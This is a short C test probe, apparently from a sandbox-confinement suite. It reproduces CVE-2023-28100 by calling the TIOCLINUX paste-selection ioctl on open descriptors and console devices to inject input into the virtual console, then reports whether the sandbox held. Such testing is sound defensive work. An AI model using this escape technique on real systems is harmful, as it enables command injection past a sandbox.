// title: pastes into the virtual console by its selection
// source: CVE-2023-28100, Flatpak's filter knew TIOCSTI and not TIOCLINUX
// twin: no: this machine shows no virtual console to unprivileged accounts
#include "attack.h"

ATTACK(paste_into_console) {
    const char *paths[] = {"/dev/tty", "/dev/tty0", "/dev/tty1", "/dev/console", "/dev/vcs", "/dev/vcsa1"};
    char paste = 3 /* TIOCL_PASTESEL */;
    for (int open_now = 0; open_now < 10; open_now++)
        if (ioctl(open_now, TIOCLINUX, &paste) == 0) {
            through("descriptor %d", open_now);
            return;
        }
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
        int console = open(paths[i], O_RDWR);
        if (console >= 0 && (ioctl(console, TIOCLINUX, &paste) == 0 || strncmp(paths[i], "/dev/vcs", 8) == 0)) {
            through("%s", paths[i]);
            return;
        }
    }
    held("%s", strerror(errno));
}
